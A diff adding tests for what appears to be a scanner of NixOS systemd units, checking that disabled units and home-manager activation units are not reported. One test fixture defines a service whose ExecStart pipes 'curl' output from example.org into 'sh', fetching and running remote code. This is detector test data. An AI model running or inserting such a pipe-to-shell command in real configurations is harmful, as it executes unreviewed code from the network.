@@ -121,3 +121,20 @@ describe("jobs are not daemons", () => {
     expect(f!.message).not.toContain("scheduled job");
   });
 });
+
+// Lillecarl hosts/_shared/remapper.nix and hosts/nub/fancontrol.nix (`enable = false` on the unit)
+// and Misterio77 hosts/common/users/gabriel (ExecStart = mkForce on home-manager-gabriel), judged
+// wrong and debatable in the third sample.
+describe("units NixOS does not write, and home-manager's activation units", () => {
+  it("a unit with enable = false is not reported; the same unit enabled is", async () => {
+    const started = check(`    wantedBy = [ "multi-user.target" ];\n`);
+    expect(await exposure({ "gc.nix": started.replace("description =", "enable = false;\n    description =") })).toEqual([]);
+    expect(await exposure({ "gc.nix": started.replace("description =", "enable = true;\n    description =") })).toHaveLength(1);
+  });
+
+  it("home-manager-<user> is home-manager's unit, run as the user: what the repository adds to it is not judged; a unit of another name is", async () => {
+    const hm = (name: string) => `{ lib, pkgs, ... }: {\n  systemd.services.${name} = {\n    wantedBy = [ "multi-user.target" ];\n    serviceConfig.ExecStart = lib.mkForce (pkgs.writeShellScript "activate" ''\n      curl -fsS https://example.org/home | sh\n    '');\n  };\n}\n`;
+    expect(await exposure({ "hm.nix": hm("home-manager-gabriel") })).toEqual([]);
+    expect(await exposure({ "hm.nix": hm("manager-gabriel") })).toHaveLength(1);
+  });
+});
